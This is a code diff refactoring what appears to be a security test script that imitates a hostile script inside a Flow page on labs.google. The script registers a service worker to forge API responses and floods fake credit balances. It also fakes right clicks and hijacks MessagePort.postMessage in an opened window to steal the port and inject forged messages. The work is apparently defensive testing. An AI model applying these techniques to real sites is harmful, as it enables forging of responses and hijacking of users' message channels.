@@ -1,4 +1,6 @@
-// What a hostile script in a page of Flow does: asked for by ?attack, before any script of Flow.
+// What a hostile script in a page of labs.google does: asked for by ?attack, before any script of Flow.
+import { click, frame, openFresh, takeOver } from './attack-window.js';
+
 const API = 'https://aisandbox-pa.googleapis.com/v1';
 const TRPC = '/fx/api/trpc/';
 const STRANGER = 'https://stranger.example';
@@ -8,16 +10,6 @@ let forgeries;
 let forged = 0;
 
 const answer = (result) => ({ result: { data: { json: { result, status: 200 } } } });
-
-// From now on the page's own service worker answers in the place of Flow.
-async function takeOver() {
-  const controlled = new Promise((resolve) =>
-    navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true }),
-  );
-  await navigator.serviceWorker.register('/fx/_next/static/attack-worker.js', { scope: '/fx/' });
-  await controlled;
-  forgeries = await caches.open('forged');
-}
 
 // Lets an address answer what the attacker likes, and calls it as Flow's page would.
 async function show(address, body, init) {
@@ -77,34 +69,6 @@ async function flood() {
   await Promise.all(
     Array.from({ length: 100 }, (_, n) => show(`${API}/credits`, { credits: 2_000_000 + n }, as)),
   );
-}
-
-// A right click that no hand has made, on a video that is in no page.
-function click(source) {
-  const video = document.createElement('video');
-  video.src = source;
-  for (const place of [video, document.body, document.querySelector('video')])
-    for (const type of ['pointerdown', 'contextmenu'])
-      place.dispatchEvent(new MouseEvent(type, { bubbles: true, button: 2, composed: true }));
-}
-
-// A fresh window has the functions that its opener puts there before any script begins, ours among
-// them: so the attacker gets hold of the port itself, and tells what it likes.
-async function openFresh(address) {
-  const opened = window.open(address);
-  const { prototype } = opened.MessagePort;
-  const { postMessage } = prototype;
-  const heard = [];
-  for (const type of ['message', 'messageerror'])
-    opened.addEventListener(type, () => heard.push(type), true);
-  const port = await new Promise((resolve) => {
-    prototype.postMessage = function (...given) {
-      resolve(this);
-      return postMessage.apply(this, given);
-    };
-  });
-  const tell = (...given) => postMessage.apply(port, given);
-  Object.assign(window, { tell, heard });
 }
 
 const told = (url, body) => `200 ${url}\n\n\n${JSON.stringify(body)}`;
@@ -168,22 +132,11 @@ function makeUp(mediaGenerationId, seed, model) {
   window.tell(told(list, answer({ workflows, nextPageToken: null })));
 }
 
-// A frame of Flow inside a page of Flow; over once it has shown its clips.
-async function frame(address) {
-  const made = document.createElement('iframe');
-  made.src = address;
-  document.body.append(made);
-  await new Promise((resolve) => made.addEventListener('load', resolve));
-  const { MutationObserver: Watch } = made.contentWindow;
-  const page = made.contentDocument;
-  await new Promise((resolve) => {
-    const look = () => page.querySelector('video[data-key]') && resolve();
-    new Watch(look).observe(page, { childList: true, subtree: true });
-    look();
-  });
-}
-
 window.attack = {
-  ...{ takeOver, account, prices, media, flood, click, titled },
-  ...{ openFresh, pour, titledByPort, teach, makeUp, frame },
+  async takeOver() {
+    forgeries = await takeOver('/fx/_next/static/attack-worker.js', '/fx/');
+  },
+  frame: (address) => frame(address, 'video[data-key]'),
+  ...{ account, prices, media, flood, click, titled },
+  ...{ openFresh, pour, titledByPort, teach, makeUp },
 };
